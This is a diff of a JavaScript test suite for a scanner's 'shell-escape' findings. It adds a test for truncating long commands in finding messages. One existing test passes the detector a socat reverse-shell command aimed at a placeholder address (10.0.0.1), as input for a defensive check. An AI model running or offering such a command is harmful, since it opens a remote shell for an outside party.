@@ -119,6 +119,15 @@ describe('shell-escape reporting', () => {
     assert.equal(found.filter((f) => /interactive shell/.test(f.message)).length, 1);
   });
 
+  test('a long multi-line command is quoted on one short line in the message, and kept in the evidence', () => {
+    const script = 'x'.repeat(400) + '\n' + 'y'.repeat(400);
+    const [finding] = commandFindings('shell-escape', ['bash', '-ic', script]);
+    assert.ok(!finding.message.includes('\n'));
+    assert.ok(finding.message.length < 250, String(finding.message.length));
+    assert.ok(finding.message.endsWith('…'));
+    assert.ok(finding.evidence.includes('\n' + 'y'.repeat(400)));
+  });
+
   test('a direct argv without a shell: the finding points at argv[0]', () => {
     const [finding] = commandFindings('shell-escape', ['socat', 'tcp:10.0.0.1:1', 'exec:/bin/sh']);
     assert.equal(finding.path, containerPath('command', 0));
